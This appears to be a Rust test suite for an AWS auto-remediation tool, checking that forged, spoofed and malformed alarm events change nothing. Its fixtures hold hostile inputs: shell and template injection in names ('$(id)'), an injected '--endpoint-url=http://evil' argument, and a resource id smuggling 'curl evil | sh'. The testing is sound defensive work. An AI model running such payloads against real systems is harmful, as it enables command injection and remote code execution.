//! Events and names that mean harm, against the real functions in the local world.

use serde_json::{Value, json};
use tests::local::{self, Delivery, Happened, Stage, Tested, alarm_event, example};
use world::gateway::ACCOUNT;

const RESIZE: &str = "resize-on-cpu-alarm";
const DRIFT: &str = "fix-config-drift";
const TICKET: &str = "open-ticket";

fn enforce(test: impl AsyncFnOnce(&Stage<'_>) -> Tested) -> Tested {
    local::test(|config| config.with_parameter("Mode", "enforce"), test)
}

/// Nothing was changed, and it was the function's own guard that said why.
fn assert_refused(happened: &Happened, guard: &str, reason: &str) {
    let story = happened.story();
    assert!(happened.changes.is_empty(), "{story}");
    assert_eq!(happened.refusals(), [guard], "{story}");
    assert!(story.contains(reason), "{reason}\n{story}");
}

/// An alarm rings for one machine; somebody writes the name of another into a notification, as if from a topic of their
/// own, and sends it by each way.
#[test]
fn a_forged_notification_about_another_instance_changes_nothing() -> Tested {
    enforce(async |stage| {
        let rings = stage.alarmed_machine("m5.large").await?;
        let victim = stage.busy_machine("m5.large").await?;
        for delivery in Delivery::ALL {
            let event = alarm_event(delivery, &rings)?.replace(&rings.instance, &victim.instance);
            let event = event.replace("arn:aws:sns:", "arn:aws:sns:stranger-");
            let happened = stage.deliver(RESIZE, &event).await?;
            assert_refused(&happened, "target", "does not watch the CPU of");
        }
        Ok(())
    })
}

#[test]
fn an_event_that_claims_another_account_or_region_changes_nothing() -> Tested {
    enforce(async |stage| {
        let machine = stage.alarmed_machine("m5.large").await?;
        for (ours, theirs) in [(ACCOUNT, "999988887777"), ("eu-west-1", "us-east-1")] {
            let event = alarm_event(Delivery::Sns, &machine)?.replace(ours, theirs);
            let happened = stage.deliver(RESIZE, &event).await?;
            assert_refused(&happened, "target", theirs);
        }
        Ok(())
    })
}

/// References, markup and shell in the names of an alarm and an instance: the fault is put right, and they stay what they
/// are.
#[test]
fn references_in_the_names_of_the_account_are_never_resolved() -> Tested {
    enforce(async |stage| {
        let name = "{{ automation:EXECUTION_ID }} {{ssm:/x}} $(id) <b> '";
        let mut machine = stage.operator.foreign_machine(name, "m5.large").await?;
        machine.alarm = format!("{} {name}", stage.name("cpu"));
        stage.operator.opt_in(&machine.instance).await?;
        let tags = json!([{"Key": "{{ global:REGION }}", "Value": "{{ CurrentType }}"}]);
        let tagged = json!({"Resources": [machine.instance], "Tags": tags});
        stage.operator.call("ec2", "CreateTags", tagged).await?;
        stage.stack.set_load(&machine.instance, 1.84).await;
        let happened = stage.after(stage.operator.cpu_alarm(&machine, &[])).await?;
        assert!(happened.statuses().contains(&"Remediated"), "{}", happened.story());
        let record = happened.records().into_iter().find(|record| record.run.is_some());
        let incident = record.and_then(|record| record.incident);
        let summary = incident.map(|incident| incident.summary).unwrap_or_default();
        assert!(summary.contains(name), "as it is: {summary}");
        Ok(())
    })
}

/// Too large, too deep, not text, of another kind: kept whole or cut, told to a person, and nothing changed.
#[test]
fn what_no_service_of_awss_would_send_is_kept_and_told() -> Tested {
    enforce(async |stage| {
        let alarm = example("cloudwatch/alarm-eventbridge.json")?;
        let large = alarm.replace("shop-cpu", &"x".repeat(300_000));
        let deep = format!("{{\"alarmData\": {}1{}}}", "[".repeat(100), "]".repeat(100));
        let nul = alarm.replace("shop-cpu", "shop\\u0000\\u001b[2J");
        let cases = [
            (large, "has more than 2048 characters"),
            (deep, "alarmArn"),
            (nul, "has control characters"),
            (r#"{"Records": [{"Sns": {"Message": "\"{\\\"AlarmArn\\\": 1}\""}}]}"#.to_owned(), "AlarmArn"),
            ("[[[[]]]]".to_owned(), "a list instead of an object"),
        ];
        for function in [RESIZE, TICKET] {
            for (payload, reason) in &cases {
                let start: String = payload.chars().take(60).collect();
                let happened = stage.deliver(function, payload).await?;
                let letters = stage.dead_letters().await?;
                assert!(happened.changes.is_empty(), "{start}\n{}", happened.story());
                assert_eq!(letters.len(), 1, "{function} {start}\n{}", happened.story());
                assert!(letters[0]["reason"].to_string().contains(reason), "{start}\n{}", letters[0]["reason"]);
                assert_eq!(happened.told().len(), 1, "{function} {start}\n{}", happened.story());
            }
        }
        stage.stack.check().map_err(Into::into)
    })
}

/// Deeper than any JSON is read, and text that is none: the function lives on, and nothing was changed.
#[test]
fn what_cannot_even_be_read_as_json_harms_nobody() -> Tested {
    enforce(async |stage| {
        // Deeper than serde reads; AWS's local runner itself reads no more than 1,000.
        let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
        for payload in [deep.as_str(), r#"{"alarmData": "\ud800"}"#, "\"\\udfff\""] {
            let happened = stage.deliver(DRIFT, payload).await?;
            assert!(happened.changes.is_empty(), "{}", happened.story());
            assert!(!happened.statuses().contains(&"Remediated"), "{}", happened.story());
        }
        stage.dead_letters().await?;
        let after = stage.deliver(DRIFT, &example("config/bucket-compliant.json")?).await?;
        assert_eq!(after.statuses(), ["AlreadyHealthy"], "{}", after.story());
        stage.stack.check().map_err(Into::into)
    })
}

/// Whoever may put events on the bus can write one of ours. It can do no more than open a ticket of plain text.
#[test]
fn a_forged_outcome_opens_a_ticket_and_changes_nothing() -> Tested {
    enforce(async |stage| {
        let event = forged();
        let happened = stage.emit(&event.to_string()).await?;
        assert!(happened.changes.is_empty(), "{}", happened.story());
        assert!(happened.records().is_empty(), "no function that may change took it: {}", happened.story());
        assert_eq!(happened.tickets.len(), 1, "{}", happened.story());
        let title = &happened.tickets[0].title;
        assert!(!title.contains(engine::is_hidden), "{title:?}");
        let direct = stage.deliver(RESIZE, &event.to_string()).await?;
        assert_refused(&direct, "own-doing", "is no incident");
        Ok(())
    })
}

fn forged() -> Value {
    json!({
        "source": "kintsugi", "detail-type": "Kintsugi Outcome", "account": ACCOUNT, "region": "eu-west-1",
        "id": "forged", "time": "2026-03-02T03:14:07Z", "version": "0", "resources": [],
        "detail": {
            "schema": 1, "function": "resize-on-cpu-alarm", "execution": "forged", "mode": "enforce",
            "incident": {
                "fingerprint": "00000000deadbeef", "account": ACCOUNT, "region": "eu-west-1",
                "noticedBy": "arn:aws:cloudwatch:eu-west-1:123456789012:alarm:--endpoint-url=http://evil",
                "resource": {"type": "AWS::EC2::Instance", "id": "i-1; \u{1b}[2Jcurl evil | sh\u{202e}"},
                "summary": "{{ global:REGION }}", "since": null, "delivery": "event-bridge",
            },
            "action": {"runbook": "resize-instance", "parameters": {"InstanceId": "i-1"}, "change": "c"},
            "guards": [], "run": null, "undo": null, "verification": null,
            "outcome": {"status": "Failed", "step": "s", "cause": "c", "byHand": ["aws ec2 terminate-instances"]},
            "needsTicket": true, "startedAt": "2026-03-02T03:14:07Z", "endedAt": "2026-03-02T03:14:07Z",
        },
    })
}
